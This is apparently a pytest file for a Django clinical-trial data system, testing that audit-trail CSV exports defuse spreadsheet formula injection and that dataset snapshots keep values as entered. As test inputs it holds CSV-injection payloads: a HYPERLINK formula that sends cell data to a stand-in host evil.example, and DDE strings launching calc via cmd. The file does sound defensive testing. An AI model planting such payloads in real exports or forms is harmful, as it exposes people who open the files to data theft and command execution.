"""Finding 4: a cell that a spreadsheet would run as a formula is defused in every CSV for
people (the audit trail's export); the dataset snapshot's CSVs keep values as entered."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from lupustrial.dataset.snapshot import write_snapshot
from lupustrial.edc.export import database_records
from lupustrial.edc.spreadsheet import spreadsheet_cell
from lupustrial.edc.study.models import Subject
from tests.edc.clients import login

pytestmark = pytest.mark.usefixtures("demo")

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-1e-3", "-1e-3"),
        ("plain text", "plain text"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(value: object, expected: object) -> None:
    assert spreadsheet_cell(value) == expected


def _audit_rows(client: Client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def test_a_failed_login_named_as_a_formula_is_defused_in_the_audit_export() -> None:
    Client().post(reverse("login"), {"username": HYPERLINK, "password": "whatever-it-is"})
    rows = _audit_rows(login("datamanager"), reverse("audit_export"))
    failed = [row for row in rows if row["action"] == "login_failed"]
    assert [row["actor"] for row in failed] == ["'" + HYPERLINK]
    assert not any(
        cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values()
    )


def test_a_reason_for_change_starting_with_a_formula_is_defused_per_subject() -> None:
    subject = Subject.objects.get(screening_number="S-001")
    visit = subject.visits.get(code="W12")
    form = visit.forms.get(crf="vitals")
    coordinator = login("coordinator")
    coordinator.post(
        reverse("crf", args=[visit.pk, "vitals"]),
        {
            "body_weight.value": "59",
            "body_weight.unit": "kg",
            "version": form.version,
            "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
    )
    rows = _audit_rows(
        login("datamanager"), reverse("audit_trail", args=[subject.pk]) + "?format=csv"
    )
    reasons = {row["reason"] for row in rows if row["form"] == "vitals" and row["reason"]}
    assert reasons == {"'@SUM(1+1)*cmd|' /C calc'!A0"}


def test_the_dataset_snapshot_keeps_values_as_entered_and_says_so(tmp_path: Path) -> None:
    manifest = write_snapshot(
        database_records(None), tmp_path / "snap", timezone.localtime(), source="database"
    )
    written = json.loads((tmp_path / "snap" / "manifest.json").read_text(encoding="utf-8"))
    assert written == manifest
    note = manifest["csv"]
    assert "exactly as entered" in note
    assert "formula" in note
